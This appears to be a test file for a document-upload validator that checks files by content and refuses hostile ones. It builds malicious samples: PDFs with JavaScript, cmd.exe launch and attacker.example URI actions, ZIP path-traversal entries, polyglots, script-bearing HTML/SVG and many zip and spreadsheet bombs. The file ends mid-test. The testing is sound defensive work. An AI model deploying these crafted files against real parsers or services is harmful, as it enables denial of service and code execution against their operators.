import { createHash } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { Document, Packer, Paragraph } from 'docx';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inEnglish, inVietnamese } from '@/tests/i18n';
import {
  MAX_EVIDENCE_BYTES,
  contentDisposition,
  deleteEvidence,
  readEvidence,
  safeDisplayName,
  sniffEvidence,
  storageRoot,
  storeEvidence,
  type EvidenceType,
  exceedsReaderLimits,
  isZipBomb,
  MAX_SHEET_ROWS,
  MAX_DOCUMENT_ELEMENTS,
  MAX_SHARED_STRINGS,
  spreadsheetProblem,
} from '@/lib/files/evidence';
import { msg } from '@/lib/i18n/message';

// ---- Corpus, built here: no binary fixtures. ----

const enc = (s: string) => new TextEncoder().encode(s);
const concat = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));

const PDF = enc('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const pdfWith = (body: string) => enc(`%PDF-1.4\n${body}\ntrailer<<>>\n%%EOF\n`);
/** A PDF whose only dictionary lives in a Flate-compressed object stream. */
const pdfWithObjStm = (inner: string, filter = '/FlateDecode') => {
  const data = filter === '/FlateDecode' ? deflateSync(inner) : Buffer.from(inner);
  return concat(
    enc(`%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length} >>\nstream\n`),
    data,
    enc('\nendstream\nendobj\ntrailer<<>>\n%%EOF\n'),
  );
};
// The well-known 1×1 PNG: signature, IHDR, IDAT, IEND with correct CRCs.
const PNG = new Uint8Array(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
);
const JPEG = new Uint8Array([
  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00,
  0x00, 0xff, 0xd9,
]);

type ZipEntry = {
  name: string;
  data?: Uint8Array;
  declaredSize?: number;
  localName?: string;
  /** The name's bytes as written, in both headers (instead of `name` in UTF-8). */
  rawName?: Uint8Array;
  /** An extra field, in both headers. */
  extra?: Uint8Array;
};
/** Hand-assembled stored ZIP, so names and declared sizes can be anything. */
function zip(entries: ZipEntry[]): Uint8Array {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = e.rawName ? Buffer.from(e.rawName) : Buffer.from(e.name, 'utf8');
    const localName = e.rawName ? name : Buffer.from(e.localName ?? e.name, 'utf8');
    const extra = Buffer.from(e.extra ?? new Uint8Array());
    const data = Buffer.from(e.data ?? new Uint8Array());
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(e.declaredSize ?? data.length, 22);
    local.writeUInt16LE(localName.length, 26);
    local.writeUInt16LE(extra.length, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(e.declaredSize ?? data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt16LE(extra.length, 30);
    central.writeUInt32LE(offset, 42);
    locals.push(local, localName, extra, data);
    centrals.push(central, name, extra);
    offset += 30 + localName.length + extra.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...locals, cd, end]));
}
const office = (main: string, ...extra: ZipEntry[]) =>
  zip([{ name: '[Content_Types].xml', data: enc('<Types/>') }, { name: main, data: enc('<x/>') }, ...extra]);

let DOCX: Uint8Array;
let XLSX: Uint8Array;
async function withEntry(file: Uint8Array, name: string) {
  const z = await JSZip.loadAsync(file);
  z.file(name, 'x');
  return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
}

beforeAll(async () => {
  const doc = new Document({ sections: [{ children: [new Paragraph('Báo cáo tiến độ')] }] });
  DOCX = new Uint8Array(await Packer.toBuffer(doc));
  const wb = new ExcelJS.Workbook();
  wb.addWorksheet('Tiến độ').addRow(['Nhiệm vụ', 1]);
  XLSX = new Uint8Array(await wb.xlsx.writeBuffer());
});

async function sniffedExt(bytes: Uint8Array, name: string) {
  const r = await sniffEvidence(bytes, name);
  if (!r.ok) throw new Error(`refused: ${inVietnamese(r.reason)}`);
  return r.type.ext;
}
async function reason(bytes: Uint8Array, name: string) {
  const r = await sniffEvidence(bytes, name);
  return r.ok ? `accepted as ${r.type.ext}` : inVietnamese(r.reason);
}

const UNSUPPORTED = 'Chỉ nhận tệp PDF, DOCX, XLSX, PNG hoặc JPEG (kiểm tra theo nội dung tệp).';
const DAMAGED = 'Tệp bị hỏng hoặc không đầy đủ.';
const POLYGLOT = 'Tệp có cấu trúc không hợp lệ (nhiều định dạng).';
const PDF_ACTIVE = 'Tệp PDF chứa mã thực thi hoặc tệp nhúng, không được chấp nhận.';
const UNSAFE_PATH = 'Tệp nén chứa đường dẫn không an toàn.';
const ZIP_BOMB = 'Tệp nén quá lớn khi giải nén.';
const MACRO = 'Tệp chứa macro, không được chấp nhận.';

describe('sniffEvidence: accepted content', () => {
  it('recognises each type by content, with matching, missing or unknown extensions', async () => {
    expect(await sniffedExt(PDF, 'bao-cao.pdf')).toBe('pdf');
    expect(await sniffedExt(DOCX, 'Báo cáo.docx')).toBe('docx');
    expect(await sniffedExt(XLSX, 'tien-do.XLSX')).toBe('xlsx');
    expect(await sniffedExt(PNG, 'anh.png')).toBe('png');
    expect(await sniffedExt(JPEG, 'anh.jpeg')).toBe('jpg');
    expect(await sniffedExt(JPEG, 'anh.JPG')).toBe('jpg');
    expect(await sniffedExt(PDF, 'bang-chung')).toBe('pdf');
    expect(await sniffedExt(PNG, 'scan.tiff')).toBe('png');
    expect(await sniffedExt(office('word/document.xml'), 'x')).toBe('docx');
    expect(await sniffedExt(office('xl/workbook.xml'), 'x')).toBe('xlsx');
  });

  it('returns the full type description', async () => {
    const types = await Promise.all(
      [PDF, DOCX, XLSX, PNG, JPEG].map(async (b) => {
        const r = await sniffEvidence(b, '');
        return r.ok ? r.type : null;
      }),
    );
    expect(types).toEqual([
      { mime: 'application/pdf', ext: 'pdf', label: 'PDF' },
      {
        mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
        ext: 'docx',
        label: 'Word (DOCX)',
      },
      { mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', ext: 'xlsx', label: 'Excel (XLSX)' },
      { mime: 'image/png', ext: 'png', label: 'PNG' },
      { mime: 'image/jpeg', ext: 'jpg', label: 'JPEG' },
    ]);
  });

  it('accepts a PDF of exactly MAX_EVIDENCE_BYTES and PDFs using object streams or look-alike keys', async () => {
    const big = new Uint8Array(MAX_EVIDENCE_BYTES).fill(0x20);
    big.set(enc('%PDF-1.4\n'), 0);
    big.set(enc('trailer<<>>\n%%EOF\n'), big.length - 18);
    expect(await sniffedExt(big, 'lon.pdf')).toBe('pdf');
    expect(await sniffedExt(pdfWithObjStm('1 0 << /Type /Catalog >>'), 'a.pdf')).toBe('pdf');
    expect(await sniffedExt(pdfWith('1 0 obj<</JSONData 1 /Launcher 2>>endobj'), 'a.pdf')).toBe('pdf');
  });
});

describe('sniffEvidence: refusals', () => {
  it('refuses empty and oversize files', async () => {
    expect(await reason(new Uint8Array(0), 'a.pdf')).toBe('Tệp rỗng.');
    const over = new Uint8Array(MAX_EVIDENCE_BYTES + 1);
    over.set(PDF);
    expect(await reason(over, 'a.pdf')).toBe('Tệp vượt quá 20 MB.');
  });

  it('refuses unknown content, whatever the name says', async () => {
    expect(await reason(enc('hello world'), 'a.txt')).toBe(UNSUPPORTED);
    expect(await reason(new Uint8Array([0x4d, 0x5a, 0x90, 0, 3]), 'setup.pdf')).toBe(UNSUPPORTED); // MZ (exe)
    expect(await reason(enc('<!doctype html><script>alert(1)</script>'), 'bao-cao.pdf')).toBe(UNSUPPORTED);
    expect(await reason(enc('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'anh.png')).toBe(
      UNSUPPORTED,
    );
    expect(await reason(enc(' %PDF-1.4\n%%EOF\n'), 'a.pdf')).toBe(UNSUPPORTED); // header must be at byte 0
    expect(await reason(new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'cu.docx')).toBe(UNSUPPORTED); // legacy OLE / encrypted Office
  });

  it('refuses a name whose extension contradicts the content', async () => {
    expect(await reason(PNG, 'bao-cao.pdf')).toBe('Tên tệp (.pdf) không khớp nội dung (PNG).');
    expect(await reason(PDF, 'anh.png')).toBe('Tên tệp (.png) không khớp nội dung (PDF).');
    expect(await reason(DOCX, 'bang.xlsx')).toBe('Tên tệp (.xlsx) không khớp nội dung (Word (DOCX)).');
    expect(await reason(JPEG, 'anh.PNG')).toBe('Tên tệp (.png) không khớp nội dung (JPEG).');
    expect(await reason(PNG, 'x.pdf\u202E')).toBe('Tên tệp (.pdf) không khớp nội dung (PNG).');
    // The English reader is told the same, and a form naming the file says which one.
    const mismatch = await sniffEvidence(PNG, 'bao-cao.pdf');
    expect(mismatch.ok ? null : inEnglish(mismatch.reason)).toBe(
      'The file name (.pdf) does not match its content (PNG).',
    );
    // Nested in the task's refusal, the reason keeps its own values, in either language.
    const named = (reason: string) => msg('errors.tasks.badFile', { name: 'bc-01.pdf', reason });
    expect(mismatch.ok ? null : inVietnamese(named(mismatch.reason))).toBe(
      'Tệp bc-01.pdf: Tên tệp (.pdf) không khớp nội dung (PNG).',
    );
    const empty = await sniffEvidence(new Uint8Array(0), 'a.pdf');
    expect(empty.ok ? null : inEnglish(named(empty.reason))).toBe('File bc-01.pdf: The file is empty.');
  });

  it('refuses damaged files of a recognised type', async () => {
    expect(await reason(PNG.subarray(0, PNG.length - 12), 'anh.png')).toBe(DAMAGED); // no IEND
    expect(await reason(concat(PNG.subarray(0, 8), PNG.subarray(33)), 'anh.png')).toBe(DAMAGED); // no IHDR
    expect(await reason(JPEG.subarray(0, JPEG.length - 2), 'anh.jpg')).toBe(DAMAGED);
    expect(await reason(enc('%PDF-1.4\n1 0 obj<<>>endobj\n'), 'a.pdf')).toBe(DAMAGED); // no %%EOF
    expect(await reason(DOCX.subarray(0, DOCX.length - 30), 'a.docx')).toBe(DAMAGED);
    expect(await reason(concat(DOCX, enc('trailing')), 'a.docx')).toBe(DAMAGED);
    const dup = zip([{ name: '[Content_Types].xml' }, { name: 'word/document.xml' }, { name: 'WORD/document.xml' }]);
    expect(await reason(dup, 'a.docx')).toBe(DAMAGED);
    // Local header and central directory disagree on the name (streaming readers would see '../x.xml').
    const disagree = office('word/document.xml', { name: 'word/x.xml', localName: '../x.xml' });
    expect(await reason(disagree, 'a.docx')).toBe(DAMAGED);
    for (const localName of ['word/y.xml', 'word/x.xmlz']) {
      expect(await reason(office('word/document.xml', { name: 'word/x.xml', localName }), 'a.docx')).toBe(DAMAGED);
    }
    // End record counts fewer entries than the central directory holds (a hidden entry).
    const hidden = office('word/document.xml', { name: 'word/vbaProject.bin' });
    new DataView(hidden.buffer).setUint16(hidden.length - 14, 2, true);
    new DataView(hidden.buffer).setUint16(hidden.length - 12, 2, true);
    expect(await reason(hidden, 'a.docx')).toBe(DAMAGED);
  });

  it('refuses polyglots', async () => {
    const plainZip = zip([{ name: 'a.txt', data: enc('hi') }]);
    expect(await reason(concat(PDF, plainZip), 'a.pdf')).toBe(POLYGLOT);
    expect(await reason(concat(PDF, plainZip, enc('\n%%EOF\n')), 'a.pdf')).toBe(POLYGLOT); // trailing data after ZIP
    expect(await reason(concat(PDF, DOCX), 'a.pdf')).toBe(POLYGLOT);
    expect(await reason(concat(PNG, plainZip), 'a.png')).toBe(POLYGLOT);
    const pngWithPdf = concat(PNG.subarray(0, 33), enc('%PDF-1.4'), PNG.subarray(33));
    expect(await reason(pngWithPdf, 'a.png')).toBe(POLYGLOT);
    const docxWithPdf = office('word/document.xml', { name: 'z.txt', data: enc('%PDF-1.4 obj') });
    expect(await reason(docxWithPdf, 'a.docx')).toBe(POLYGLOT);
    expect(await reason(office('word/document.xml', { name: 'xl/workbook.xml' }), 'a.docx')).toBe(POLYGLOT);
  });

  it('refuses PDFs with scripts, launch actions or embedded files, even when hidden', async () => {
    const js = '1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj';
    expect(await reason(pdfWith(js), 'a.pdf')).toBe(PDF_ACTIVE);
    expect(await reason(pdfWith('1 0 obj<</AA<</O<</JS 2 0 R>>>>>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
    expect(await reason(pdfWith('1 0 obj<</S/Launch/F(cmd.exe)>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
    // Additional actions run on their own (a page opened): a web address opened that way (attacker pass 25).
    const openUri = '3 0 obj<</Type/Page/AA<</O<</S/URI/URI(http://attacker.example/x)>>>>>>endobj';
    expect(await reason(pdfWith(openUri), 'a.pdf')).toBe(PDF_ACTIVE);
    expect(await reason(pdfWith('1 0 obj<</Type/EmbeddedFile>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
    expect(await reason(pdfWith('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj'), 'a.pdf')).toBe(PDF_ACTIVE);
    for (const escaped of ['/J#61vaScript', '/#4aavaScript', '/J#53', '/#4C#61unch', '/Embedded#46iles']) {
      expect(await reason(pdfWith(`1 0 obj<<${escaped} 2 0 R>>endobj`), 'a.pdf'), escaped).toBe(PDF_ACTIVE);
    }
    expect(await reason(pdfWithObjStm('1 0 <</S/JavaScript/JS(x)>>'), 'a.pdf')).toBe(PDF_ACTIVE);
    // An object stream that cannot be inspected is not trusted.
    expect(await reason(pdfWithObjStm('1 0 <<>>', '[/FlateDecode /ASCIIHexDecode]'), 'a.pdf')).toBe(DAMAGED);
    expect(await reason(pdfWithObjStm('1 0 <<>>', '/LZWDecode'), 'a.pdf')).toBe(DAMAGED);
  });

  it('refuses ZIP entries with unsafe paths', async () => {
    const z = await JSZip.loadAsync(DOCX);
    z.file('../evil', 'x');
    const traversal = new Uint8Array(await z.generateAsync({ type: 'uint8array' }));
    expect(await reason(traversal, 'a.docx')).toBe(UNSAFE_PATH);
    for (const name of ['/etc/cron.d/x', 'C:/x.xml', 'word\\..\\x.xml', 'word/../../x', 'a\u0000.xml']) {
      expect(await reason(office('word/document.xml', { name }), 'a.docx'), name).toBe(UNSAFE_PATH);
    }
    expect(await sniffedExt(office('word/document.xml', { name: 'word/media/a..b.png' }), 'a.docx')).toBe('docx');
  });

  it('refuses ZIP bombs by entry count or declared size', async () => {
    const many = Array.from({ length: 2000 }, (_, i) => ({ name: `word/p${i}.xml` }));
    expect(await sniffedExt(office('word/document.xml', ...many.slice(2)), 'a.docx')).toBe('docx'); // 2000 is fine
    expect(await reason(office('word/document.xml', ...many.slice(1)), 'a.docx')).toBe(ZIP_BOMB); // 2001
    const huge = { name: 'word/media/big.bin', declaredSize: 200 * 1024 * 1024 };
    expect(await reason(office('word/document.xml', huge), 'a.docx')).toBe(ZIP_BOMB);
    expect(await reason(office('word/document.xml', { name: 'x', declaredSize: 0xffffffff }), 'a.docx')).toBe(ZIP_BOMB);
  });

  it('refuses an entry that inflates to more than it declares (the sizes are what the limits check), and an XML part too large to read', async () => {
    const z = await JSZip.loadAsync(DOCX);
    z.file('word/document.xml', ' '.repeat(2_000_000));
    const deflated = new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(deflated.length).toBeLessThan(100_000); // 2 MB of spaces deflate to a few KB
    expect(await sniffedExt(deflated, 'a.docx')).toBe('docx'); // declared truthfully: fine
    // The same archive declaring 1,000 bytes for the document (in the directory and the local header).
    const lied = new Uint8Array(deflated);
    const v = new DataView(lied.buffer);
    for (let p = 0; p + 46 < lied.length; p++) {
      if (v.getUint32(p, true) !== 0x02014b50) continue;
      const name = Buffer.from(lied.subarray(p + 46, p + 46 + v.getUint16(p + 28, true))).toString('latin1');
      if (name !== 'word/document.xml') continue;
      v.setUint32(p + 24, 1000, true);
      v.setUint32(v.getUint32(p + 42, true) + 22, 1000, true);
    }
    expect(await reason(lied, 'a.docx')).toBe(ZIP_BOMB);
    expect(await isZipBomb(lied)).toBe(true);
    // One XML part declared over 32 MB is refused however the rest adds up.
    const part = { name: 'word/footer1.xml', declaredSize: 33 * 1024 * 1024 };
    expect(await reason(office('word/document.xml', part), 'a.docx')).toBe(ZIP_BOMB);
    // The importers' spreadsheets are checked the same way before ExcelJS opens them.
    expect([await isZipBomb(XLSX), await isZipBomb(deflated), await isZipBomb(enc('not a zip'))]).toEqual([
      false,
      false,
      false,
    ]);
  });

  // Building these files (ExcelJS writing a 1 MB string 3,000 times, 100,001 rows, a 150 MB image deflated) is
  // the test's own work, tens of seconds of a loaded CI machine: a time limit that fits one (decision 089). What the
  // checks read is asserted by their verdicts, not by time.
  it('refuses what the readers would blow up: merged or validated ranges of millions of cells, and millions of elements', async () => {
    const z = await JSZip.loadAsync(XLSX);
    const sheetName = Object.keys(z.files).find((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))!;
    const sheet = await z.file(sheetName)!.async('string');
    const withRanges = async (xml: string) => {
      z.file(sheetName, sheet.replace('</worksheet>', `${xml}</worksheet>`));
      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    };
    // 1.6 KB that ExcelJS would make 17 billion cells of (attacker pass 15b).
    const merged = await withRanges('<mergeCells count="1"><mergeCell ref="A3:XFD1048576"/></mergeCells>');
    expect(merged.length).toBeLessThan(10_000);
    expect(await sniffedExt(merged, 'a.xlsx')).toBe('xlsx'); // a valid file as evidence, never opened
    expect([await isZipBomb(merged), await exceedsReaderLimits(merged, 'xlsx')]).toEqual([true, true]);
    const validated = await withRanges(
      '<dataValidations count="1"><dataValidation type="list" sqref="B2:B5 C1:Z100000"><formula1>"a"</formula1></dataValidation></dataValidations>',
    );
    expect(await isZipBomb(validated)).toBe(true);
    // A sheet's few merged headings are fine.
    expect(
      await isZipBomb(
        await withRanges('<mergeCells count="2"><mergeCell ref="A1:H1"/><mergeCell ref="A2:H3"/></mergeCells>'),
      ),
    ).toBe(false);

    // One 1 MB shared string pointed to from 3,000 cells (a 41 KB file, 3 GB of text), and 100,000 rows.
    const big = new ExcelJS.Workbook();
    const ws = big.addWorksheet('Nhiệm vụ');
    const long = 'Nội dung rất dài. '.repeat(60_000);
    for (let r = 1; r <= 1000; r++) ws.addRow([long, long, long]);
    const shared = new Uint8Array(await big.xlsx.writeBuffer({ useSharedStrings: true } as never));
    expect(shared.length).toBeLessThan(2_000_000);
    expect(await exceedsReaderLimits(shared, 'xlsx')).toBe(true);
    const tall = new ExcelJS.Workbook();
    const tws = tall.addWorksheet('Danh sách');
    for (let r = 1; r <= MAX_SHEET_ROWS + 1; r++) tws.addRow([r]);
    expect(await exceedsReaderLimits(new Uint8Array(await tall.xlsx.writeBuffer()), 'xlsx')).toBe(true);
    // The same pointers written t='s' (valid XML, which ExcelJS reads), and the sheet under a path ExcelJS also finds.
    const sz = await JSZip.loadAsync(shared);
    const sheetPart = Object.keys(sz.files).find((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))!;
    const sheetXml = await sz.file(sheetPart)!.async('string');
    sz.file(sheetPart, sheetXml.replace(/t="s"/g, "t = 's'"));
    expect(await exceedsReaderLimits(new Uint8Array(await sz.generateAsync({ type: 'uint8array' })), 'xlsx')).toBe(
      true,
    );
    sz.remove(sheetPart);
    sz.file(`x/${sheetPart}`, sheetXml);
    expect(await exceedsReaderLimits(new Uint8Array(await sz.generateAsync({ type: 'uint8array' })), 'xlsx')).toBe(
      true,
    );
    // Unclosed tags by the million are read in one pass (a pattern that looked ahead for each closing tag took
    // minutes); this finishes well within the test's time limit.
    const unclosed = await JSZip.loadAsync(XLSX);
    unclosed.file(sheetName, '<worksheet><sheetData>' + '<c>'.repeat(700_000));
    unclosed.file('xl/sharedStrings.xml', '<sst>' + '<si>'.repeat(700_000));
    const hostile = new Uint8Array(await unclosed.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(hostile.length).toBeLessThan(100_000);
    expect(await exceedsReaderLimits(hostile, 'xlsx')).toBe(true);
    // The workbook's named ranges and a sheet's column ranges, which ExcelJS also expands (attacker pass 17): a million
    // cells named in workbook.xml, a column range of five million; a print area and Excel's own XFD range stay fine.
    const withWorkbook = async (definedNames: string, cols = '') => {
      const z = await JSZip.loadAsync(XLSX);
      const wbXml = await z.file('xl/workbook.xml')!.async('string');
      z.file('xl/workbook.xml', wbXml.replace('</sheets>', `</sheets><definedNames>${definedNames}</definedNames>`));
      if (cols)
        z.file(sheetName, (await z.file(sheetName)!.async('string')).replace('<sheetData', `${cols}<sheetData`));
      return new Uint8Array(await z.generateAsync({ type: 'uint8array' }));
    };
    expect(
      await exceedsReaderLimits(
        await withWorkbook('<definedName name="ds">Sheet1!$A$1:$J$100000</definedName>'),
        'xlsx',
      ),
    ).toBe(true);
    expect(
      await exceedsReaderLimits(await withWorkbook('', '<cols><col min="1" max="5000000" width="9"/></cols>'), 'xlsx'),
    ).toBe(true);
    expect(
      await exceedsReaderLimits(
        await withWorkbook(
          '<definedName name="_xlnm.Print_Area" localSheetId="0">\'Danh sách\'!$A$1:$K$200</definedName><definedName name="ds">Sheet1!$A:$A</definedName>',
          '<cols><col min="1" max="16384" width="9"/></cols>',
        ),
        'xlsx',
      ),
    ).toBe(false);
    // Attacker pass 22. Ranges written loosely, as ExcelJS's own reader still reads them (it skips what is no letter or
    // digit, and reads eight-digit rows): each was counted as one cell.
    for (const ref of ['A3:Z100000x', 'A3:Z-100000', '$A$3:$Z$100000 ', 'A3:Z1000000000']) {
      expect(
        await isZipBomb(await withRanges(`<mergeCells count="1"><mergeCell ref="${ref}"/></mergeCells>`)),
        ref,
      ).toBe(true);
      expect(
        await isZipBomb(
          await withRanges(
            `<dataValidations count="1"><dataValidation type="list" sqref="${ref}"><formula1>"a"</formula1></dataValidation></dataValidations>`,
          ),
        ),
        ref,
      ).toBe(true);
    }
    expect(
      await exceedsReaderLimits(
        await withWorkbook('<definedName name="ds">Sheet1!$A$3:$J$20000x</definedName>'),
        'xlsx',
      ),
    ).toBe(true);
    // One cell far to the right in each row: ExcelJS holds every row as long as its last column (1,000 rows of one cell
    // at XFD, 7 KB, held the server 18 s and 450 MB); the same cells in column B are fine.
    const sparse = async (column: string) => {
      const z = await JSZip.loadAsync(XLSX);
      const rowsXml = Array.from(
        { length: 1000 },
        (_, i) => `<row r="${i + 1}"><c r="${column}${i + 1}"><v>1</v></c></row>`,
      );
      z.file(
        sheetName,
        `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rowsXml.join('')}</sheetData></worksheet>`,
      );
      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    };
    const far = await sparse('XFD');
    expect(far.length).toBeLessThan(20_000);
    expect(await isZipBomb(far)).toBe(true);
    expect(await isZipBomb(await sparse('B'))).toBe(false);
    // The parts around the sheets, which ExcelJS parses too: 900,000 fonts in the styles, and comments parts it reads by
    // their name alone (four of 29 MB took 1.2 GB).
    const withPart = async (name: string, xml: string) => {
      const z = await JSZip.loadAsync(XLSX);
      z.file(name, xml);
      return new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    };
    expect(
      await isZipBomb(
        await withPart('xl/styles.xml', `<styleSheet><fonts>${'<font/>'.repeat(900_000)}</fonts></styleSheet>`),
      ),
    ).toBe(true);
    expect(
      await isZipBomb(
        await withPart(
          'xl/comments1.xml',
          `<comments><commentList><comment ref="A1"><text><t>${'a'.repeat(31_000_000)}</t></text></comment></commentList></comments>`,
        ),
      ),
    ).toBe(true);
    expect(await isZipBomb(await withPart('xl/comments1.xml', '<comments><commentList/></comments>'))).toBe(false);
    // A real import sheet: 5,000 rows of 10 cells of a few hundred characters each.
    const real = new ExcelJS.Workbook();
    const rws = real.addWorksheet('Nhiệm vụ');
    for (let r = 1; r <= 5000; r++)
      rws.addRow(
        Array.from({ length: 10 }, (_, c) => `Dòng ${r} cột ${c}: ${'rà soát thủ tục hành chính '.repeat(8)}`),
      );
    expect(await exceedsReaderLimits(new Uint8Array(await real.xlsx.writeBuffer()), 'xlsx')).toBe(false);

    const d = await JSZip.loadAsync(DOCX);
    const doc = await d.file('word/document.xml')!.async('string');
    d.file('word/document.xml', doc.replace('<w:body>', `<w:body>${'<w:p/>'.repeat(MAX_DOCUMENT_ELEMENTS)}`));
    const paragraphs = new Uint8Array(await d.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(paragraphs.length).toBeLessThan(50_000);
    expect([
      await isZipBomb(paragraphs),
      await exceedsReaderLimits(paragraphs, 'docx'),
      await exceedsReaderLimits(DOCX, 'docx'),
    ]).toEqual([true, true, false]);
  }, 300_000);

  // A time limit for a loaded machine, as above (decision 089).
  it('counts what the readers read wherever the package puts it, and inflates off the server’s thread (attacker pass 19)', async () => {
    // mammoth reads the document where _rels/.rels points: 300,000 paragraphs in "x" were read (2.3 s, 714 MB).
    const d = await JSZip.loadAsync(DOCX);
    const doc = await d.file('word/document.xml')!.async('string');
    d.file('x', doc.replace('<w:body>', `<w:body>${'<w:p/>'.repeat(MAX_DOCUMENT_ELEMENTS)}`));
    const rels = await d.file('_rels/.rels')!.async('string');
    d.file('_rels/.rels', rels.replace('word/document.xml', 'x'));
    const moved = new Uint8Array(await d.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(await exceedsReaderLimits(moved, 'docx')).toBe(true);
    // However much white space comes first (64 spaces hid it from a look at the first 64 bytes: second look).
    d.file('x', ' '.repeat(100_000) + doc.replace('<w:body>', `<w:body>${'<w:p/>'.repeat(MAX_DOCUMENT_ELEMENTS)}`));
    const padded = new Uint8Array(await d.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(await exceedsReaderLimits(padded, 'docx')).toBe(true);
    d.file('word/doc.bin', `${' '.repeat(200)}<w:document>${' '.repeat(33 * 1024 * 1024)}</w:document>`);
    const bigBin = new Uint8Array(await d.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(await reason(bigBin, 'a.docx')).toBe(ZIP_BOMB);
    // ExcelJS reads "xl/worksheets/sheet1.xmlx" as a sheet: its rows count, and so does the 32 MB cap of an XML part.
    const tall = new ExcelJS.Workbook();
    const tws = tall.addWorksheet('Danh sách');
    for (let r = 1; r <= MAX_SHEET_ROWS + 1; r++) tws.addRow([r]);
    const z = await JSZip.loadAsync(await tall.xlsx.writeBuffer());
    const sheet = Object.keys(z.files).find((n) => /^xl\/worksheets\/[^/]+\.xml$/.test(n))!;
    z.file(`${sheet}x`, await z.file(sheet)!.async('string'));
    z.remove(sheet);
    const renamed = new Uint8Array(await z.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(await exceedsReaderLimits(renamed, 'xlsx')).toBe(true);
    // The shared strings ExcelJS reads are "xl/sharedStrings.xml" itself: a small decoy elsewhere is not measured instead.
    const realStrings = new ExcelJS.Workbook();
    const rs = realStrings.addWorksheet('a');
    const longText = 'Nội dung rất dài. '.repeat(60_000);
    for (let r = 1; r <= 1000; r++) rs.addRow([longText, longText, longText]);
    const withStrings = await JSZip.loadAsync(await realStrings.xlsx.writeBuffer({ useSharedStrings: true } as never));
    const decoy = new JSZip();
    decoy.file('a/xl/sharedStrings.xml', '<sst><si><t>x</t></si></sst>');
    for (const [name, entry] of Object.entries(withStrings.files))
      if (!entry.dir) decoy.file(name, await entry.async('uint8array'));
    const decoyed = new Uint8Array(await decoy.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(await exceedsReaderLimits(decoyed, 'xlsx')).toBe(true);
    const big = await JSZip.loadAsync(XLSX);
    big.file('xl/worksheets/sheet9.xmlx', `<worksheet>${' '.repeat(33 * 1024 * 1024)}</worksheet>`);
    const bigPart = new Uint8Array(await big.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    expect(await reason(bigPart, 'a.xlsx')).toBe(ZIP_BOMB);
    // An image of 150 MB of zeros (a few hundred KB deflated) is inflated in chunks on zlib's threads: the event loop
    // turns meanwhile (one synchronous call held it for the whole entry, 15 s for eight of them in one post).
    const img = await JSZip.loadAsync(DOCX);
    img.file('word/media/image1.png', new Uint8Array(150 * 1024 * 1024));
    const heavy = new Uint8Array(await img.generateAsync({ type: 'uint8array', compression: 'DEFLATE' }));
    let turns = 0;
    let done = false;
    const spin = () => {
      if (done) return;
      turns++;
      setImmediate(spin);
    };
    setImmediate(spin);
    expect(await sniffedExt(heavy, 'a.docx')).toBe('docx');
    done = true;
    expect(turns).toBeGreaterThan(20);
  }, 300_000);

  it('refuses an entry another reader names otherwise: a Unicode Path field, a byte outside ASCII (attacker pass 32)', async () => {
    const SHARED = 'xl/sharedStrings.xml';
    // 300,001 shared strings, which ExcelJS reads whether or not a cell points to them.
